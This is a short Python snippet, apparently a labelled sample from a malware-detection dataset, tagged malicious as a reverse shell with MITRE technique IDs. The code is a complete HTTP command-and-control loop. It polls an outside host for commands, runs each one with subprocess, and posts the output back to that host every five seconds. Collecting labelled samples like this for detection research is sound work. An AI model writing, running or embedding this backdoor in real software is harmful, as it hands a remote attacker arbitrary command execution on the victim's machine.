# label: malicious family=revshell techniques=T1071.001,T1059.004 lines=4,6-7
import requests, subprocess, time
while True:
    c = requests.get("http://203.0.113.19:8000/cmd").text
    if c:
        o = subprocess.getoutput(c)
        requests.post("http://203.0.113.19:8000/out", data=o)
    time.sleep(5)
